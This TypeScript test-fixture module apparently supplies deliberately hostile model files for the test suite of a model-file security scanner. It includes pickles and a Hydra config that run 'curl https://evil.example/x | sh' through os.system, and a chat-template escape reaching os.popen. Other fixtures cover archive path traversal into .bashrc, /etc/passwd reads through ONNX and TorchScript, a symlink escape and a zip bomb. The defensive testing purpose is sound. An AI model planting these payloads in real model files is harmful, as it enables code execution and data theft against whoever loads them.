import { gzipSync } from 'node:zlib';
import { ggufFile, text as ggufText } from '../../support/ggufFile.ts';
import { npyFile, npyHeader } from '../../support/npyFile.ts';
import { externalTensor, node, onnxFile } from '../../support/onnxFile.ts';
import {
  bytesOf,
  data,
  op,
  proto,
  reduce,
  stackGlobal,
  stop,
  stream,
  text,
  tuple,
  u64,
} from '../../support/pickleAssembler.ts';
import { numberField } from '../../support/protobufAssembler.ts';
import { safetensorsFile, weightBytes } from '../../support/safetensorsFile.ts';
import { stateDictPickle, torchArchive } from '../../support/torchArchive.ts';
import { type ZipMember, zipArchive } from '../../support/zipAssembler.ts';

/** A file of a model by its name, small, and with one thing wrong. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const file = (name: string, bytes: Uint8Array | string): HostileFile => ({
  name,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
});
const json = (name: string, value: unknown) => file(name, JSON.stringify(value));
const zipped = (...members: readonly (readonly [name: string, content: Uint8Array | string])[]) =>
  zipArchive(members.map(([name, content]): ZipMember => ({ name, content: Buffer.from(content) })));

/** A checkpoint of torch whose pickle is this one. */
const checkpoint = (pickle: Uint8Array, ...more: readonly (readonly [string, string])[]) =>
  zipped(
    ['pytorch_model/data.pkl', pickle],
    ...more.map(([name, content]) => [`pytorch_model/${name}`, content] as const),
    ['pytorch_model/version', '3\n'],
  );

const weight = { weight: { dtype: 'F32', shape: [2, 2] } } as const;
const harmless = stateDictPickle({});
const command = reduce(stackGlobal('os', 'system'), text('curl -s https://evil.example/x | sh'));

/** What the page of a rule shows: a file for each that `scan` tells of. */
export const hostileFiles: Readonly<Record<string, HostileFile>> = {
  'pickle-dangerous-call': file('pytorch_model.bin', checkpoint(stream(command))),
  'pickle-unknown-global': file(
    'pytorch_model.bin',
    checkpoint(stream(reduce(stackGlobal('lab.models', 'Encoder'), text('base')))),
  ),
  'pickle-dynamic-import': file(
    'model.pkl',
    stream(
      reduce(
        bytesOf(
          text('bf'),
          reduce(stackGlobal('_codecs', 'encode'), text('flfgrz'), text('rot13')),
          op('STACK_GLOBAL'),
        ),
        text('id'),
      ),
    ),
  ),
  'pickle-broken-stream': file('pytorch_model.bin', checkpoint(harmless.subarray(0, -4))),
  'pickle-nested': file('model.pkl', stream(data(stream(command)))),
  'pickle-parser-divergence': file(
    'model.pkl',
    bytesOf(proto(4), op('FRAME', u64(4096)), text('weights'), stop),
  ),
  'archive-header-mismatch': file('pytorch_model.bin', renamedWithin(checkpoint(harmless))),
  'archive-duplicate-member': file(
    'pytorch_model.bin',
    checkpoint(harmless, ['notes.txt', 'first'], ['notes.txt', 'second']),
  ),
  'archive-traversal': file(
    'pytorch_model.bin',
    checkpoint(harmless, ['../../../.bashrc', 'curl evil.example']),
  ),
  'archive-bomb': file('weights.zip', overlappingMembers()),
  'archive-hidden-data': file('pytorch_model.bin', bytesOf(torchArchive(weight), weightBytes(300, 7))),
  'content-name-mismatch': file('model.safetensors', harmless),
  'content-unsupported': file('pytorch_model.bin', bytesOf('7z', 0xbc, 0xaf, 0x27, 0x1c, new Uint8Array(26))),
  'safetensors-malformed': file('model.safetensors', overlappingTensors()),
  'numpy-malformed': file('embeddings.npy', npyFile(npyHeader("'<f4'", '(1000,)'), weightBytes(400, 1))),
  'gguf-malformed': file(
    'model.Q4_K_M.gguf',
    ggufFile({ entries: [ggufText('general.name', 'one'), ggufText('general.name', 'other')] }),
  ),
  'onnx-malformed': file('model.onnx', onnxFile([node('Relu')], numberField(99, 1))),
  'onnx-external-path': file('model.onnx', onnxFile([externalTensor('weight', '../../../../etc/passwd')])),
  'onnx-custom-operator': file('model.onnx', onnxFile([node('FastAttention', { domain: 'com.example' })])),
  'keras-malformed': file('model.h5', bytesOf(0x89, 'HDF\r\n', 0x1a, '\n', 9, new Uint8Array(39))),
  'keras-code': file(
    'model.keras',
    kerasModel({ module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'function' }),
  ),
  'hydra-target': file(
    'model_config.yaml',
    'model:\n  _target_: os.system\n  command: curl -s https://evil.example/x | sh\n',
  ),
  'template-escape': json('tokenizer_config.json', {
    chat_template: "{{ raise_exception.__globals__['os'].popen('id') }}",
  }),
  'config-malformed': file('config.json', '{"model_type": "bert", "model_type": "llama"}'),
  'config-remote-code': json('config.json', {
    auto_map: { AutoModel: 'modeling_encoder.Encoder', AutoConfig: 'configuration_encoder.EncoderConfig' },
  }),
  'config-foreign-code': json('config.json', {
    auto_map: { AutoModel: 'someone/other--modeling_encoder.Encoder' },
  }),
  'code-capability': file(
    'model.pt',
    zipped(
      ['model/data.pkl', harmless],
      ['model/constants.pkl', stream(tuple())],
      [
        'model/code/__torch__.py',
        'def forward(self, x: Tensor) -> Tensor:\n  return torch.from_file("/etc/passwd", False, 10)\n',
      ],
      ['model/version', '3\n'],
    ),
  ),
  'embedded-executable': file('lib/kernels.so', bytesOf(0x7f, 'ELF', 2, 1, 1, new Uint8Array(57))),
  'restricted-license': json('config.json', { model_type: 'encoder', license: 'cc-by-nc-4.0' }),
  'lfs-pointer': file(
    'pytorch_model.bin',
    `version https://git-lfs.github.com/spec/v1\noid sha256:${'4d7a'.repeat(16)}\nsize 548105171\n`,
  ),
  'link-escapes': file('pytorch_model.bin', linkWithin('tokenizer.json', '/etc/passwd')),
  'index-traversal': json('model.safetensors.index.json', {
    metadata: { total_size: 16 },
    weight_map: { weight: '../../other-model/pytorch_model.bin' },
  }),
  'limit-exceeded': file('vectors.gz', gzipped(Buffer.from('0.1 0.2 0.3'), 8)),
};

/** Packed so many times, the same on every system: not compressed, and the byte that names the system is set. */
function gzipped(bytes: Uint8Array, times: number): Uint8Array {
  if (times === 0) return bytes;
  const packed = gzipSync(bytes, { level: 0 });
  packed.writeUInt8(255, 9);
  return gzipped(packed, times - 1);
}

/** An archive in which one member is called differently by its own header than by the directory. */
function renamedWithin(archive: Uint8Array): Uint8Array {
  const renamed = Buffer.from(archive);
  renamed.write('pytorch_model/data.bin', renamed.indexOf('pytorch_model/data.pkl'), 'latin1');
  return renamed;
}

/** An archive whose second member begins with the last byte of the first. */
function overlappingMembers(): Uint8Array {
  const whole = Buffer.from(zipped(['large.txt', 'wordsP'], ['small.txt', 'words']));
  const shared = whole.indexOf('wordsP') + 'words'.length;
  const archive = Buffer.concat([whole.subarray(0, shared), whole.subarray(shared + 1)]);
  const entry = archive.lastIndexOf('small.txt') - 46;
  const end = archive.length - 22;
  for (const at of [entry + 42, end + 16]) archive.writeUInt32LE(archive.readUInt32LE(at) - 1, at);
  return archive;
}

/** An archive with a member that is a link by the mode which its directory gives it. */
function linkWithin(name: string, target: string): Uint8Array {
  const archive = Buffer.from(checkpoint(harmless, [name, target]));
  const entry = archive.lastIndexOf(`pytorch_model/${name}`) - 46;
  const unix = 3;
  archive.writeUInt8(unix, entry + 5);
  archive.writeUInt32LE(0o120777 * 2 ** 16, entry + 38);
  return archive;
}

/** Two tensors of which the second begins within the first. */
function overlappingTensors(): Uint8Array {
  const whole = safetensorsFile({
    first: { dtype: 'F32', shape: [4] },
    second: { dtype: 'F32', shape: [4] },
  });
  const text = Buffer.from(whole).toString('latin1').replace('[16,32]', '[12,28]');
  return Buffer.from(text, 'latin1').subarray(0, -4);
}

/** A model of Keras 3 with this layer. */
function kerasModel(layer: Readonly<Record<string, unknown>>): Uint8Array {
  const model = { module: 'keras', class_name: 'Sequential', config: { name: 'model', layers: [layer] } };
  return zipped(
    ['metadata.json', JSON.stringify({ keras_version: '3.8.0' })],
    ['config.json', JSON.stringify(model)],
    ['model.weights.h5', ''],
  );
}
